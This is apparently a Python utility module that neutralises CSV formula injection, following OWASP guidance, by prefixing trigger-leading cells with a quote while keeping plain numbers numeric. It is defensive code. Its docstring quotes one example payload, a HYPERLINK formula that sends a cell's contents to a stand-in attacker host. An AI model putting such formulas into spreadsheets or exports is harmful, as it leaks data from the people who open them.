"""CSV files that a spreadsheet opens as data, never as formulas (OWASP "CSV Injection", ASVS
5.0 V1.2.10).

Excel, LibreOffice and Google Sheets run a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula (and treat a leading tab or carriage return the same way once trimmed), so a
label, a worker's name or an uploaded value such as ``=HYPERLINK("https://evil.example?"&A1)``
would run on the requester's or the finance team's machine. Every CSV the platform writes goes
through :func:`csv_safe_writer` (or :func:`csv_safe_cell`), which prefixes such a cell with a
single quote ``'`` and leaves it otherwise intact, as OWASP recommends.

What is escaped, and what is not:

- only strings: ints and floats are written as numbers and stay numbers;
- a string that is just a plain decimal number (``-5``, ``+1.5``, ``-2e-3``) is left alone too:
  a spreadsheet reads it as that number, not as a formula, and escaping it would turn numbers
  (a rating label ``-1``, an external id ``-42``) into text. Anything else that starts with a
  trigger character (``-1+2``, ``- 5``, ``-A1``) is escaped;
- ``None`` becomes the empty cell, as ``csv.writer`` writes it.

Pure Python; config's shared base (no app imports), so every app may use it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def csv_safe_cell(value: Any) -> Any:
    """``value`` as a cell a spreadsheet will not evaluate (see the module docstring)."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def csv_safe_row(cells: Iterable[Any]) -> list[Any]:
    return [csv_safe_cell(cell) for cell in cells]


class SafeWriter:
    """A ``csv.writer`` whose rows are neutralised cell by cell; same ``writerow``/``writerows``
    (``writerow`` returns what the file's ``write`` returned, as ``csv.writer`` does)."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(csv_safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self._writer.writerow(csv_safe_row(row))


def csv_safe_writer(file, **options) -> SafeWriter:
    """``csv.writer(file, **options)`` that writes no formula cells."""
    return SafeWriter(file, **options)
